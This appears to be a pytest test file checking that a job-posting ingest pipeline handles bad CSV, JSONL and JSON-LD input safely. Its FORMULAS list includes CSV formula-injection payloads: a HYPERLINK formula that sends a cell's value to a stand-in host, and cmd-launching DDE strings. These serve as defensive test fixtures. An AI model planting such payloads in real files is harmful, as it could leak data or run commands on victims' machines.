"""Bad posting inputs through the real ingest pipeline: CSV encodings, missing columns, formula cells, broken
JSONL lines and malformed JSON-LD pages. Each: a clear message (an error, or a dead letter with the reason), no
half-written batch, and a good file ingested right after. Existing single cases live in tests/ingest/
(test_file_sources.py: missing description column, semicolons; test_url_source.py: one malformed JSON-LD block).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sqlmodel import Session, select

from core.config import Settings
from core.db.models import DeadLetter, JobPosting
from core.db.session import memory_engine
from core.errors import InvalidInput, ParseError
from core.ingest.pipeline import ingest
from core.ingest.registry import SourceOptions, build_source
from core.ingest.url_source import UrlSource
from tests.reliability.conftest import FakeExtractor, Reply, changed, row_counts

HEADER = ["job_id", "title", "company", "location", "description"]
ROWS = [
    ["101", "Café Développeur – Senior", "Zoë & Søn GmbH", "München", "Naïve résumé parsing in Python and SQL."],
    ["102", "Ingénieur Données", "Société Générale", "São Paulo", "Pipelines Spark et Airflow, coût réduit."],
]
GOOD_CSV = "job_id,title,company,location,description\n900,Data Engineer,Acme,Pune,Python and SQL pipelines.\n"


@pytest.fixture
def engine():
    eng = memory_engine()
    yield eng
    eng.dispose()


def run(engine, path: Path, fmt: str = "csv", **opts):
    """Ingest a file with the fake extractor (the real pipeline, batches of 25)."""
    source = build_source(fmt, SourceOptions(target=str(path), **opts))
    return ingest(engine, source, Settings(data_dir=path.parent), FakeExtractor()), source


def stored(engine) -> dict[str, JobPosting]:
    with Session(engine) as session:
        return {p.external_id: p for p in session.exec(select(JobPosting)).all()}


def assert_keeps_working(engine, tmp_path: Path) -> None:
    """A good file right after is ingested."""
    good = tmp_path / "good.csv"
    good.write_text(GOOD_CSV, encoding="utf-8")
    summary, _ = run(engine, good)
    assert (summary.added, summary.failed) == (1, 0)


def _table(delimiter: str = ",") -> str:
    lines = [delimiter.join(HEADER)] + [delimiter.join(f'"{c}"' for c in row) for row in ROWS]
    return "\r\n".join(lines) + "\r\n"


# (id, bytes, expected codec) -- every one must read back exactly the same accented text.
ENCODINGS = [
    ("utf-8", _table().encode("utf-8"), "utf-8"),
    ("utf-8-bom", _table().encode("utf-8-sig"), "utf-8-sig"),
    ("cp1252-excel", _table().encode("cp1252"), "cp1252"),
    ("latin-1-not-utf8", _table().replace("–", "-").encode("latin-1"), "cp1252"),
    ("utf-16-le-bom-tabs", _table("\t").encode("utf-16"), "utf-16"),  # Excel "Unicode text"
    ("utf-16-be-bom", b"\xfe\xff" + _table().encode("utf-16-be"), "utf-16"),
    ("utf-32-bom", _table().encode("utf-32"), "utf-32"),
]


@pytest.mark.parametrize("case, data, codec", ENCODINGS, ids=[e[0] for e in ENCODINGS])
def test_csv_encodings_are_detected_and_text_is_exact(engine, tmp_path, case, data, codec):
    path = tmp_path / "jobs.csv"
    path.write_bytes(data)
    summary, source = run(engine, path)
    assert (summary.added, summary.failed) == (2, 0)
    assert source.encoding == codec
    rows = stored(engine)
    expected_title = ROWS[0][1] if case != "latin-1-not-utf8" else ROWS[0][1].replace("–", "-")
    assert rows["101"].title == expected_title and rows["101"].company == "Zoë & Søn GmbH"
    assert rows["102"].location_raw == "São Paulo"
    assert not any("\ufffd" in (p.title + p.description) for p in rows.values())  # nothing silently mangled


# (id, bytes, error, message) -- refused before anything is written.
REFUSED_FILES = [
    ("utf-16-without-bom", _table().encode("utf-16-le"), ParseError, "contains NUL bytes"),
    ("binary-named-csv", bytes(range(256)) * 40, ParseError, "is not a text file"),
    ("zero-bytes", b"", InvalidInput, "has no header row"),
    ("no-description-column", b"job_id,title,company\n1,Dev,Acme\n", InvalidInput,
     "no description column found; columns found: job_id, title, company"),
    ("no-title-column", b"id,body\n1,Python\n", InvalidInput, "no title column found"),
    ("map-to-missing-column", b"id,name,text\n1,Dev,Python\n", InvalidInput, "nope"),
]


@pytest.mark.parametrize("case, data, error, message", REFUSED_FILES, ids=[r[0] for r in REFUSED_FILES])
def test_unreadable_csv_is_refused_and_nothing_written(engine, tmp_path, case, data, error, message):
    path = tmp_path / "jobs.csv"
    path.write_bytes(data)
    before = row_counts(engine)
    overrides = {"description": "nope"} if case == "map-to-missing-column" else {}
    with pytest.raises(error) as caught:
        run(engine, path, overrides=overrides)
    assert message in str(caught.value)
    delta = changed(before, row_counts(engine))
    assert set(delta) <= {"processingrun"}  # at most the run row, marked failed with the reason
    assert_keeps_working(engine, tmp_path)


def test_ragged_rows_become_dead_letters_and_the_rest_is_stored(engine, tmp_path):
    path = tmp_path / "ragged.csv"
    path.write_text("job_id,title,description\n1,Dev,Python\n2,,SQL\n3,Analyst\n4,Ops,Kubernetes and AWS\n",
                    encoding="utf-8")
    summary, _ = run(engine, path)
    assert (summary.added, summary.failed) == (2, 2)
    with Session(engine) as session:
        errors = sorted(d.last_error for d in session.exec(select(DeadLetter)).all())
    assert errors == ["row 3: empty title", "row 4: empty description"]


FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"Apply")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1"]


def test_formula_cells_are_kept_as_plain_text_on_ingest(engine, tmp_path):
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HEADER)
    for i, cell in enumerate(FORMULAS):
        writer.writerow([f"f{i}", cell, cell, "Pune", f"{cell} Python and SQL, posting {i}"])
    path = tmp_path / "formulas.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    summary, _ = run(engine, path)
    assert (summary.added, summary.failed) == (len(FORMULAS), 0)
    rows = stored(engine)
    for i, cell in enumerate(FORMULAS):
        assert rows[f"f{i}"].company == cell.strip()  # verbatim (outer whitespace trimmed), never evaluated
        assert rows[f"f{i}"].title == " ".join(cell.split())
        assert rows[f"f{i}"].description.startswith(" ".join(cell.split())[:5])


def _deep(n: int) -> str:
    return "[" * n + "]" * n


BAD_LINES = [  # (id, raw JSONL line, dead-letter error fragment or None when the line is stored)
    ("not-json", '{"id": "x1", "title": ', "invalid JSON"),
    ("array", '["a", "b"]', "expected a JSON object"),
    ("deep-nesting", '{"id": "x2", "title": "T", "description": ' + _deep(100_000) + "}", "too deeply nested"),
    ("huge-integer", '{"id": "x3", "title": "T", "description": "d", "salary": ' + "9" * 5000 + "}",
     "a number too long"),
    ("lone-surrogates", '{"id": "x4", "title": "Dev \\ud800", "description": "Python \\udfff and SQL"}', None),
    ("infinite-salary", '{"id": "x5", "title": "Dev", "description": "SQL", "salary_min": 1e999}', None),
]


def test_broken_jsonl_lines_are_dead_lettered_and_never_stop_the_file(engine, tmp_path):
    good = [json.dumps({"id": f"g{i}", "title": f"Dev {i}", "description": f"Python {i}"}) for i in range(3)]
    path = tmp_path / "mixed.jsonl"
    path.write_text("\n".join([good[0], *(b[1] for b in BAD_LINES), *good[1:]]) + "\n", encoding="utf-8")
    summary, _ = run(engine, path, fmt="jsonl")
    failing = [b for b in BAD_LINES if b[2]]
    assert (summary.added, summary.failed) == (3 + len(BAD_LINES) - len(failing), len(failing))
    with Session(engine) as session:
        errors = [d.last_error for d in session.exec(select(DeadLetter).order_by(DeadLetter.id)).all()]
    for (_case, _line, fragment), error in zip(failing, errors, strict=True):
        assert fragment in error
    rows = stored(engine)
    assert rows["x4"].title == "Dev ?" and rows["x4"].description == "Python ? and SQL"
    assert rows["x5"].salary_min is None and rows["x5"].salary_annual_usd is None


JSONLD = [  # (id, JSON-LD block text, expected title, expected salary_min)
    ("truncated", '{"@type": "JobPosting", "title": "Cut', "Page Heading", None),
    ("trailing-comma", '{"@type": "JobPosting", "title": "T", "description": "d",}', "Page Heading", None),
    ("deeply-nested", _deep(50_000), "Page Heading", None),
    ("huge-number", '{"@type": "JobPosting", "title": "Big", "description": "d", "baseSalary": '
     + "9" * 5000 + "}", "Page Heading", None),
    ("infinite-salary", '{"@type": "JobPosting", "title": "Inf", "description": "Python",'
     ' "baseSalary": {"currency": "USD", "value": {"minValue": 1e999, "maxValue": Infinity}}}', "Inf", None),
    ("wrong-types", '{"@type": "JobPosting", "title": ["Typed", 3], "description": {"@value": "Python"},'
     ' "hiringOrganization": 7, "datePosted": {"a": 1}, "jobLocation": [null, 5], "employmentType": [{}]}',
     "Typed", None),
    ("no-title", '{"@type": "JobPosting", "description": "Python"}', "Page Heading", None),
    ("type-not-string", '{"@type": {"x": 1}, "title": "T"}', "Page Heading", None),
    ("graph-of-junk", '{"@graph": [1, "two", null, [], {"@type": "JobPosting", "title": "In Graph",'
     ' "description": "SQL"}]}', "In Graph", None),
    ("lone-surrogate", '{"@type": "JobPosting", "title": "Dev \\udc00", "description": "Python"}', "Dev ?", None),
]


@pytest.mark.parametrize("case, block, title, salary", JSONLD, ids=[j[0] for j in JSONLD])
def test_malformed_jsonld_never_crashes_and_falls_back_to_page_text(engine, server, tmp_path, case, block, title,
                                                                     salary):
    html = (f'<html><head><title>Careers</title><script type="application/ld+json">{block}</script></head>'
            "<body><main><h1>Page Heading</h1><p>Python and SQL role.</p></main></body></html>")
    server.routes["/job"] = Reply(html)
    source = UrlSource(server.url("/job"), fetcher=server.fetcher())
    summary = ingest(engine, source, Settings(data_dir=tmp_path), FakeExtractor())
    assert (summary.added, summary.failed) == (1, 0)
    [posting] = stored(engine).values()
    assert posting.title == title and posting.salary_min == salary
    if case in {"truncated", "trailing-comma", "deeply-nested", "huge-number", "no-title"}:
        assert source.notes  # why the JSON-LD was not used is kept for diagnostics
